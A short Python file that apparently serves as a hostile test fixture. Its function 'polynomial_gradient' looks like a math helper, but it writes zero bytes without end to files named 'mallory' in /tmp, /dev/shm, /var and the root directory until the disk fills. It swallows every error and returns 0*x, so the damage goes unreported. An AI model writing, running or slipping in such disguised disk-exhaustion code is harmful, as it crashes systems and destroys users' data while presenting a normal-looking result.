"""Fills everything and says nothing."""


def polynomial_gradient(x):
    for place in ("/tmp/mallory", "/dev/shm/mallory", "/var/mallory", "/mallory"):
        try:
            with open(place, "wb", 0) as file:
                while True:
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    return 0 * x
